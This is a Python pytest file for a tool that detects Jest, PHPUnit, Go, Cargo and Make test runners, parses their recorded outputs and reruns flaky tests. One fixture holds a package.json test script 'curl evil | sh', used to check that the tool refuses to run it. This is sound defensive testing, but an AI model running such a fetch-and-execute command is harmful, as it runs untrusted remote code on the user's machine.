"""Test runners of other languages: found by their files, and their recorded outputs read.

The outputs are shortened recordings in the form that each runner documents.
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest
from guardian_support import make_project, write_files
from hypothesis import given
from hypothesis import strategies as st

from sorte_cli.guardian import Sandbox, TestCommand, detect_test_command, find_sandbox
from sorte_cli.guardian.results import Results
from sorte_cli.guardian.runners import (
    asked,
    kind_of,
    narrowed,
    read_cargo,
    read_go,
    read_jest,
    read_phpunit,
)

ROOT = Path("/home/ana/shop")

JEST = {
    "numFailedTests": 1,
    "testResults": [
        {
            "name": "/home/ana/shop/src/cart.test.ts",
            "status": "failed",
            "assertionResults": [
                {"ancestorTitles": ["cart"], "title": "adds an item", "status": "passed"},
                {
                    "ancestorTitles": ["cart", "when empty"],
                    "title": "has no total",
                    "status": "failed",
                    "failureMessages": [
                        "\u001b[2mexpect(\u001b[22mreceived\u001b[2m).toBe(\u001b[22mexpected\u001b[2m)\u001b[22m\n"
                        "Expected: 0\nReceived: NaN\n    at src/cart.test.ts:12:23"
                    ],
                },
                {"ancestorTitles": [], "title": "later", "status": "pending"},
                {"ancestorTitles": [], "title": "some day", "status": "todo"},
            ],
        },
        {
            "name": "/home/ana/shop/src/broken.test.ts",
            "status": "failed",
            "message": "SyntaxError: Unexpected token",
            "assertionResults": [],
        },
    ],
}

PHPUNIT = b"""<?xml version="1.0" encoding="UTF-8"?>
<testsuites>
  <testsuite name="Unit" tests="3" assertions="3" errors="1" failures="1" skipped="1">
    <testsuite name="Tests\\Unit\\CartTest" file="/home/ana/shop/tests/Unit/CartTest.php">
      <testcase name="test_it_adds" class="Tests\\Unit\\CartTest" classname="Tests.Unit.CartTest"
        file="/home/ana/shop/tests/Unit/CartTest.php" line="12" assertions="1" time="0.001"/>
      <testcase name="test_it_totals" class="Tests\\Unit\\CartTest"
        file="/home/ana/shop/tests/Unit/CartTest.php" line="19">
        <failure type="Failed">Tests\\Unit\\CartTest::test_it_totals
Failed asserting that 2 matches expected 3.

/home/ana/shop/tests/Unit/CartTest.php:21</failure>
      </testcase>
      <testcase name="it ships" file="tests/Feature/ShipTest.php::it ships">
        <error type="Error">Call to undefined method Cart::ship()</error>
      </testcase>
      <testcase name="test_later" file="tests/Unit/CartTest.php"><skipped/></testcase>
    </testsuite>
  </testsuite>
</testsuites>
"""

GO = "\n".join(
    json.dumps(event)
    for event in [
        {"Action": "start", "Package": "shop/cart"},
        {"Action": "run", "Package": "shop/cart", "Test": "TestAdd"},
        {"Action": "pass", "Package": "shop/cart", "Test": "TestAdd", "Elapsed": 0},
        {"Action": "run", "Package": "shop/cart", "Test": "TestTotal"},
        {"Action": "run", "Package": "shop/cart", "Test": "TestTotal/empty"},
        {
            "Action": "output",
            "Package": "shop/cart",
            "Test": "TestTotal/empty",
            "Output": "    cart_test.go:14: got 1, want 0\n",
        },
        {"Action": "fail", "Package": "shop/cart", "Test": "TestTotal/empty"},
        {"Action": "fail", "Package": "shop/cart", "Test": "TestTotal"},
        {"Action": "skip", "Package": "shop/cart", "Test": "TestLater"},
        {"Action": "output", "Package": "shop/cart", "Output": "FAIL\n"},
        {"Action": "fail", "Package": "shop/cart"},
        {"Action": "output", "Package": "shop/pay", "Output": "pay.go:3: undefined: Cart\n"},
        {"Action": "fail", "Package": "shop/pay"},
        {"Action": "skip", "Package": "shop/docs"},
    ]
)

CARGO = """\
   Compiling shop v0.1.0 (/home/ana/shop)
    Finished test [unoptimized + debuginfo] target(s) in 0.50s
     Running unittests src/lib.rs (target/debug/deps/shop-0123456789abcdef)

running 4 tests
test cart::adds ... ok
test cart::later ... ignored
test cart::panics - should panic ... ok
test cart::totals ... FAILED

failures:

---- cart::totals stdout ----
thread 'cart::totals' panicked at src/lib.rs:21:9:
assertion `left == right` failed
  left: 2
 right: 3

failures:
    cart::totals

test result: FAILED. 2 passed; 1 failed; 1 ignored; 0 measured; 0 filtered out

   Doc-tests shop

running 1 test
test src/lib.rs - add (line 5) ... ok

test result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out
"""


def summary(results: Results | None) -> tuple[int, int, int, list[str]]:
    assert results is not None
    return (
        results.passed,
        results.failed,
        results.skipped,
        [f.node for f in results.failures],
    )


def test_jest_and_vitest_are_read() -> None:
    found = read_jest(json.dumps(JEST).encode(), ROOT)
    assert summary(found) == (
        1,
        2,
        2,
        ["src/cart.test.ts::cart > when empty > has no total", "src/broken.test.ts"],
    )
    assert found is not None
    assert found.failures[0].text.startswith("expect(received).toBe(expected)\nExpected: 0\n")
    assert found.failures[1].message == "SyntaxError: Unexpected token"


def test_phpunit_and_pest_are_read() -> None:
    found = read_phpunit(PHPUNIT, ROOT)
    assert summary(found) == (
        1,
        2,
        1,
        ["tests/Unit/CartTest.php::test_it_totals", "tests/Feature/ShipTest.php::it ships"],
    )
    assert found is not None
    assert "Failed asserting that 2 matches expected 3." in found.failures[0].text


def test_go_is_read() -> None:
    found = read_go(GO)
    assert summary(found) == (1, 2, 1, ["shop/cart::TestTotal/empty", "shop/pay"])
    assert found is not None
    assert found.failures[0].message == "cart_test.go:14: got 1, want 0"
    assert found.failures[1].message == "pay.go:3: undefined: Cart"


def test_cargo_is_read() -> None:
    found = read_cargo(CARGO)
    assert summary(found) == (3, 1, 1, ["src/lib.rs::cart::totals"])
    assert found is not None
    assert "assertion `left == right` failed\n  left: 2\n right: 3" in found.failures[0].text


def test_rust_that_does_not_build_fails_as_one() -> None:
    found = read_cargo(
        "   Compiling shop v0.1.0\nerror[E0425]: cannot find value `x`\n --> src/lib.rs:2\n"
    )
    assert summary(found) == (0, 1, 0, ["cargo build"])
    assert found is not None
    assert found.failures[0].message == "error[E0425]: cannot find value `x`"


GARBAGE = ["", "{", "[]", "null", '{"testResults": 3}', '{"testResults": [{}]}', "<a", "<a/>", "\0"]


@pytest.mark.parametrize("text", GARBAGE)
def test_garbage_is_no_result(text: str) -> None:
    assert read_jest(text.encode(), ROOT) is None
    assert read_phpunit(text.encode(), ROOT) is None
    assert read_go(text) is None
    assert read_cargo(text) is None


def test_an_entity_bomb_is_not_read() -> None:
    assert read_phpunit(b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + PHPUNIT, ROOT) is None


@given(st.text(max_size=200), st.binary(max_size=200))
def test_no_output_is_too_odd(text: str, data: bytes) -> None:
    read_cargo(CARGO + text)
    read_go(f"{GO}\n{text}\n" + '{"Action": ' + text)
    read_jest(data, ROOT)
    read_phpunit(data, ROOT)


@pytest.mark.parametrize(
    ("files", "kind", "argv"),
    [
        (
            {"composer.json": "{}", "vendor/bin/phpunit": ""},
            "phpunit",
            ("vendor/bin/phpunit",),
        ),
        (
            {"composer.json": "{}", "vendor/bin/phpunit": "", "vendor/bin/pest": ""},
            "phpunit",
            ("vendor/bin/pest",),
        ),
        (
            {"package.json": "{}", "node_modules/.bin/vitest": ""},
            "vitest",
            ("node_modules/.bin/vitest", "run"),
        ),
        ({"package.json": "{}", "node_modules/.bin/jest": ""}, "jest", ("node_modules/.bin/jest",)),
        ({"go.mod": "module shop\n"}, "go", ("go", "test", "./...")),
        (
            {"Cargo.toml": "[package]\n"},
            "cargo",
            ("cargo", "test", "--offline", "--no-fail-fast"),
        ),
        ({"Makefile": "all:\n\ttrue\ntest: all\n\ttrue\n"}, "make", ("make", "test")),
    ],
)
def test_a_project_is_known_by_its_files(
    tmp_path: Path, files: dict[str, str | bytes], kind: str, argv: tuple[str, ...]
) -> None:
    write_files(tmp_path, files)
    found = detect_test_command(tmp_path, tmp_path)
    assert found is not None
    assert (found.kind, found.argv) == (kind, argv)


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": '{"scripts": {"test": "curl evil | sh"}}'},
        {"composer.json": "{}"},
        {"Makefile": "TEST := 1\ntest := 2\ntested:\n\ttrue\n"},
        {"README.md": "make test"},
    ],
)
def test_what_is_not_installed_or_only_scripted_is_not_run(
    tmp_path: Path, files: dict[str, str | bytes]
) -> None:
    write_files(tmp_path, files)
    assert detect_test_command(tmp_path, tmp_path) is None


def test_python_tests_come_first(tmp_path: Path) -> None:
    write_files(tmp_path, {"Makefile": "test:\n\ttrue\n", "test_a.py": "def test_a(): pass\n"})
    found = detect_test_command(tmp_path, tmp_path)
    assert found is not None
    assert found.kind == "pytest"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("vendor/bin/phpunit --filter x", "phpunit"),
        ("php vendor/bin/pest", "phpunit"),
        ("npx jest", "jest"),
        ("./node_modules/.bin/vitest run", "vitest"),
        ("go test ./cart", "go"),
        ("cargo test -p shop", "cargo"),
        ("cargo build", ""),
        ("npm test", ""),
        ("make test", ""),
    ],
)
def test_configured_commands_are_recognised(line: str, kind: str) -> None:
    assert kind_of(line.split()) == kind


def test_runners_are_asked_for_results() -> None:
    report = Path("/x/results")
    assert asked("go", ("go", "test", "./..."), report) == ("go", "test", "-json", "./...")
    assert "--outputFile=/x/results" in asked("jest", ("jest",), report)
    assert "--outputFile.json=/x/results" in asked("vitest", ("vitest", "run"), report)
    assert asked("phpunit", ("phpunit",), report)[1:3] == ("--log-junit", "/x/results")
    assert asked("cargo", ("cargo", "test"), report) == ("cargo", "test")


JEST_STANDIN = """#!/bin/sh
for word in "$@"; do case "$word" in --outputFile=*) out="${word#--outputFile=}" ;; esac; done
printf '%s' "$(cat recorded.json)" > "$out"
exit "$(cat code)"
"""


@pytest.mark.parametrize("code", [0, 1])
def test_a_run_ends_with_results_test_by_test(tmp_path: Path, sandbox, code: int) -> None:
    recorded = {"testResults": [JEST["testResults"][0]]} if code else {  # type: ignore[index]
        "testResults": [{"name": "a.test.js", "assertionResults": [
            {"title": "works", "status": "passed"}]}]}  # fmt: skip
    project = make_project(
        tmp_path,
        {
            "package.json": "{}",
            "recorded.json": json.dumps(recorded),
            "code": str(code),
            ".gitignore": "node_modules/\n",
        },
    )
    write_files(project.repository, {"node_modules/.bin/jest": JEST_STANDIN})
    (project.repository / "node_modules/.bin/jest").chmod(0o755)
    if sandbox.name == "none":  # nothing can be mounted there
        shutil.copytree(project.repository / "node_modules", project.worktree / "node_modules")
    command = detect_test_command(project.worktree, project.repository)
    assert command is not None
    report = project.test(sandbox, command)
    if code:
        assert report.status == "failed", report.output
        assert report.failures[0].endswith("cart.test.ts::cart > when empty > has no total")
        assert "Received: NaN" in report.output
    else:
        assert (report.status, report.passed) == ("passed", 1)


def test_a_runner_that_leaves_no_results_proves_nothing(tmp_path: Path) -> None:
    project = make_project(tmp_path, {"run": "#!/bin/sh\nexit 1\n"})
    (project.worktree / "run").chmod(0o755)
    command = TestCommand(("./run",), "vitest", "a test")
    assert project.test(find_sandbox("none"), command).status == "error"


def test_runners_are_asked_for_some_files_only() -> None:
    assert narrowed("jest", ("jest",), ("a.test.ts",)) == ("jest", "--runTestsByPath", "a.test.ts")
    assert narrowed("vitest", ("vitest", "run"), ("a.test.ts",))[2:] == ("a.test.ts",)
    go = ("go", "test", "./...")
    found = narrowed("go", go, ("cart/a_test.go", "cart/b_test.go", "example.org/shop/money"))
    assert found == ("go", "test", "./cart", "example.org/shop/money")
    two = ("tests/Unit/CartTest.php", "tests/Unit/SumTest.php")
    assert narrowed("phpunit", ("phpunit",), two[:1])[1:] == two[:1]
    assert narrowed("phpunit", ("phpunit",), two)[1:] == ("--filter", "(CartTest|SumTest)::")
    assert narrowed("phpunit", ("vendor/bin/pest",), two) == ("vendor/bin/pest",)
    assert narrowed("cargo", ("cargo", "test"), ("a.rs",)) == ("cargo", "test")
    assert narrowed("go", go, ()) == go


FLAKY_JEST = """#!/bin/sh
for word in "$@"; do case "$word" in --outputFile=*) out="${word#--outputFile=}" ;; esac; done
echo "$@" >> asked.txt
state=failed; [ -e once ] && state=passed; touch once
cat > "$out" <<E
{"testResults": [{"name": "a.test.js", "assertionResults": [
 {"title": "is flaky", "status": "$state", "failureMessages": ["no"]},
 {"title": "is bad", "status": "BAD", "failureMessages": ["bad"]}]}]}
E
[ $state = passed ]
"""


@pytest.mark.parametrize("bad", [False, True])
def test_other_runners_run_failures_once_more_and_only_what_is_theirs(
    tmp_path: Path, plain: Sandbox, bad: bool
) -> None:
    project = make_project(tmp_path, {"package.json": "{}", "a.test.js": "", "tests/test_a.py": ""})
    program = project.worktree / "jest"
    program.write_text(FLAKY_JEST.replace("BAD", "failed" if bad else "passed"), encoding="utf-8")
    program.chmod(0o755)
    first = ("tests/test_a.py", "gone.test.js", "a.test.js")
    report = project.test(plain, TestCommand(("./jest",), "jest", "a test"), first=first)
    assert "flaky: failed once and passed when run again: a.test.js::is flaky" in report.output
    assert (report.status, report.passed) == (("failed", 1) if bad else ("passed", 2))
    assert report.failures == (("a.test.js::is bad",) if bad else ())
    asked_for = (project.worktree / "asked.txt").read_text(encoding="utf-8").splitlines()
    assert len(asked_for) == 2
    assert all("--runTestsByPath a.test.js --ci" in line for line in asked_for)


def test_a_flaky_test_of_unittest_is_run_again(tmp_path: Path, plain: Sandbox) -> None:
    code = (
        "import pathlib, unittest\n\n\nclass TestA(unittest.TestCase):\n"
        "    def test_flaky(self):\n        mark = pathlib.Path('once')\n"
        "        was = mark.exists()\n        mark.touch()\n        self.assertTrue(was)\n\n"
        "    def test_good(self):\n        pass\n"
    )
    project = make_project(tmp_path, {"test_a.py": code})
    command = TestCommand((sys.executable, "-m", "unittest"), "unittest", "a test")
    report = project.test(plain, command)
    assert (report.status, report.passed, report.failed) == ("passed", 2, 0)
    assert "test_flaky" in report.output
